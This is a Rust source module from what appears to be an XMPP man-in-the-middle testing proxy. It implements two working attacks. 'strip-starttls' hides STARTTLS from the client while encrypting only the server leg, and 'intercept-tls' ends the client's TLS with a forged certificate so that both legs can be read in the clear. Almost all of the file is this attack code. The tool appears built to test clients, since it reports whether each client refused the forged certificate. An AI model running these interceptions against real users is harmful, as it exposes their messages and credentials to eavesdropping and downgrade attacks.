//! Set-ups that must run in order before the pumps: the attacks that
//! answer for one side instead of relaying it.
//!
//! - `strip-starttls`: relay the client's stream header; when the server
//!   offers STARTTLS, take it in the client's place: send `<starttls/>`,
//!   encrypt the server leg, restart the stream, and show the client the
//!   features of the encrypted stream, which offer no STARTTLS (and every
//!   SASL mechanism).
//! - `intercept-tls`: relay up to the switch to TLS (or take direct TLS at
//!   once), end the client's TLS with a forged certificate, and open TLS
//!   to the server.

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::context::{Conn, READ_CHUNK, Stream};
use super::inspect;
use crate::attack::Attack;
use crate::event::Dir;
use crate::tls;
use crate::xmpp::{Half, Piece, Unit};
use protocol::ns;

/// `strip-starttls`' set-up: relay the client's stream header, and if
/// the server offers STARTTLS, take it in the client's place. Returns
/// the server leg to pump (encrypted, if the proxy upgraded it).
pub(crate) async fn strip(
    c: &Conn,
    client: &mut TcpStream,
    mut server: TcpStream,
    up: &mut Half,
    down: &mut Half,
) -> std::io::Result<Box<dyn Stream>> {
    // The client's stream header, relayed as it is.
    let header = loop {
        let pieces = read_pieces(client, up).await?;
        let mut out = Vec::new();
        let mut header = None;
        for p in pieces {
            if matches!(p.unit, Unit::Header(_)) {
                header = Some(p.clone());
            }
            inspect::inspect(c, Dir::ClientToServer, p, &mut out);
        }
        server.write_all(&out).await?;
        if let Some(h) = header {
            break h;
        }
        if up.raw_since().is_some() {
            // Direct TLS or not XMPP: nothing here to strip.
            if let Some((at, reason)) = up.raw_since() {
                inspect::opaque(c, Dir::ClientToServer, *at, reason);
            }
            return Ok(Box::new(server));
        }
    };
    let domain = match &header.unit {
        Unit::Header(h) => h.to.clone().unwrap_or_else(|| "localhost".into()),
        _ => "localhost".into(),
    };
    // The server's header goes to the client; its features decide.
    let features = loop {
        let pieces = read_pieces(&mut server, down).await?;
        let mut out = Vec::new();
        let mut features = None;
        for p in pieces {
            match &p.unit {
                Unit::Element(e) if e.is("features", ns::STREAM) => {
                    // Held until it is known whether STARTTLS goes; the
                    // server leg of the capture has it as it came.
                    c.record(Dir::ServerToClient, true, &p.bytes);
                    features = Some(e.clone());
                }
                _ => inspect::inspect(c, Dir::ServerToClient, p, &mut out),
            }
        }
        client.write_all(&out).await?;
        if let Some(f) = features {
            break f;
        }
    };
    if !features.has_child("starttls", ns::TLS) {
        // Nothing to strip: pass the features on (other attacks apply).
        let mut out = Vec::new();
        inspect::inspect_arrived(
            c,
            Dir::ServerToClient,
            Piece {
                bytes: features.to_xml().into_bytes(),
                unit: Unit::Element(features),
            },
            &mut out,
        );
        client.write_all(&out).await?;
        return Ok(Box::new(server));
    }
    c.facts().starttls_offered = true;
    let required = features
        .get_child("starttls", ns::TLS)
        .is_some_and(|s| s.has_child("required", ns::TLS));
    // Take STARTTLS in the client's place.
    server
        .write_all(b"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
        .await?;
    loop {
        let pieces = read_pieces(&mut server, down).await?;
        if pieces
            .iter()
            .any(|p| matches!(&p.unit, Unit::Element(e) if e.is("proceed", ns::TLS)))
        {
            break;
        }
        if pieces
            .iter()
            .any(|p| matches!(&p.unit, Unit::Element(e) if e.is("failure", ns::TLS)))
        {
            return Err(std::io::Error::other("the server refused STARTTLS"));
        }
    }
    let mut server = tls::connect(server, &domain, c.shared.keylog.clone()).await?;
    c.facts().starttls_stripped = true;
    c.report_attack(
        Attack::StripStarttls,
        "removed <starttls/> from the features the client sees".into(),
    );
    c.report_attack(
        Attack::StripStarttls,
        format!(
            "took STARTTLS in the client's place: the server leg is encrypted{}",
            if required {
                " (the server required it, and sees an encrypted client)"
            } else {
                ""
            }
        ),
    );
    // The encrypted stream starts over with the client's own header.
    server.write_all(&header.bytes).await?;
    c.record(Dir::ClientToServer, false, &header.bytes);
    down.restart();
    loop {
        let pieces = read_pieces(&mut server, down).await?;
        let mut out = Vec::new();
        let mut done = false;
        for p in pieces {
            match &p.unit {
                // The client already has a stream header: it sees only
                // the new features, STARTTLS gone.
                Unit::Header(_) => c.record(Dir::ServerToClient, true, &p.bytes),
                Unit::Element(e) if e.is("features", ns::STREAM) => {
                    // The encrypted stream's features offer no STARTTLS
                    // (and every mechanism: downgrade-sasl applies).
                    inspect::inspect(c, Dir::ServerToClient, p.clone(), &mut out);
                    done = true;
                }
                _ => inspect::inspect(c, Dir::ServerToClient, p, &mut out),
            }
        }
        client.write_all(&out).await?;
        if done {
            return Ok(Box::new(server));
        }
    }
}

/// `intercept-tls`' set-up: relay in the clear up to the switch to TLS
/// (or take direct TLS at once), end the client's TLS with a forged
/// certificate, and open TLS to the server. `None` when the client
/// refused the certificate.
pub(crate) async fn intercept(
    c: &Conn,
    mut client: TcpStream,
    mut server: TcpStream,
    up: &mut Half,
    down: &mut Half,
) -> std::io::Result<Option<(Box<dyn Stream>, Box<dyn Stream>)>> {
    let Some(forger) = c.shared.forger.clone() else {
        return Err(std::io::Error::other("no certificate source"));
    };
    let mut first = [0u8; 1];
    if client.peek(&mut first).await? == 0 {
        return Err(std::io::Error::new(
            std::io::ErrorKind::UnexpectedEof,
            "the client closed the connection",
        ));
    }
    let mut hint = None;
    if first[0] != 0x16 {
        // STARTTLS: the stream runs in the clear up to the switch. The
        // proxy relays it (reading it), then takes over at `<proceed/>`.
        // Both sides may speak in any order and in any number of reads (a
        // server's header and features can arrive apart): relay whichever
        // has something, until the client asks for TLS.
        let mut starttls = false;
        while !starttls {
            tokio::select! {
                pieces = read_pieces(&mut client, up) => {
                    let mut out = Vec::new();
                    let mut in_clear = false;
                    for p in pieces? {
                        match &p.unit {
                            Unit::Header(h) => hint = h.to.clone(),
                            Unit::Element(e) if e.is("starttls", protocol::ns::TLS) => starttls = true,
                            // Anything else (a sign-in, a registration):
                            // this client goes on without TLS.
                            Unit::Element(_) => in_clear = true,
                            _ => {}
                        }
                        inspect::inspect(c, Dir::ClientToServer, p, &mut out);
                    }
                    server.write_all(&out).await?;
                    if (in_clear || up.raw_since().is_some()) && !starttls {
                        // No TLS to intercept: the pumps relay the rest.
                        return Ok(Some((Box::new(client), Box::new(server))));
                    }
                }
                pieces = read_pieces(&mut server, down) => {
                    let mut out = Vec::new();
                    let mut no_tls = false;
                    for p in pieces? {
                        if let Unit::Element(e) = &p.unit
                            && e.is("features", protocol::ns::STREAM)
                            && !e.has_child("starttls", protocol::ns::TLS)
                        {
                            no_tls = true;
                        }
                        inspect::inspect(c, Dir::ServerToClient, p, &mut out);
                    }
                    client.write_all(&out).await?;
                    if no_tls {
                        // The server offers no STARTTLS: nothing to take over.
                        return Ok(Some((Box::new(client), Box::new(server))));
                    }
                }
            }
        }
        loop {
            let pieces = read_pieces(&mut server, down).await?;
            let proceed = pieces
                .iter()
                .any(|p| matches!(&p.unit, Unit::Element(e) if e.is("proceed", protocol::ns::TLS)));
            let refused = pieces
                .iter()
                .any(|p| matches!(&p.unit, Unit::Element(e) if e.is("failure", protocol::ns::TLS)));
            let mut out = Vec::new();
            for p in pieces {
                inspect::inspect(c, Dir::ServerToClient, p, &mut out);
            }
            client.write_all(&out).await?;
            if proceed {
                break;
            }
            if refused {
                // The server said no to STARTTLS: it closes the stream.
                return Ok(Some((Box::new(client), Box::new(server))));
            }
        }
    }
    // The client's TLS, answered with a certificate for the name it asks.
    let start =
        tokio_rustls::LazyConfigAcceptor::new(rustls::server::Acceptor::default(), client).await?;
    let name = start
        .client_hello()
        .server_name()
        .map(str::to_string)
        .or(hint)
        .unwrap_or_else(|| "localhost".into());
    let config = forger
        .server_config(&name, c.shared.keylog.clone())
        .map_err(std::io::Error::other)?;
    let client_tls = match start.into_stream(config).await {
        Ok(t) => t,
        Err(e) => {
            c.facts().cert_refused = Some(e.to_string());
            c.report_attack(
                Attack::InterceptTls,
                format!("the client refused {} for {name}: {e}", forger.kind),
            );
            return Ok(None);
        }
    };
    c.facts().intercepted = true;
    c.report_attack(
        Attack::InterceptTls,
        format!(
            "the client accepted {} for {name}: both legs are now read in the clear",
            forger.kind
        ),
    );
    let server_tls = tls::connect(server, &name, c.shared.keylog.clone()).await?;
    // Both legs start their streams over, now inside TLS.
    up.restart();
    down.restart();
    Ok(Some((Box::new(client_tls), Box::new(server_tls))))
}

/// Reads once and cuts what came into units; an end of stream is an error
/// here (the set-up needs the next unit).
async fn read_pieces<S: AsyncRead + Unpin>(
    s: &mut S,
    half: &mut Half,
) -> std::io::Result<Vec<Piece>> {
    let mut buf = vec![0u8; READ_CHUNK];
    let n = s.read(&mut buf).await?;
    if n == 0 {
        return Err(std::io::Error::new(
            std::io::ErrorKind::UnexpectedEof,
            "the peer closed the connection",
        ));
    }
    Ok(half.push(&buf[..n]))
}
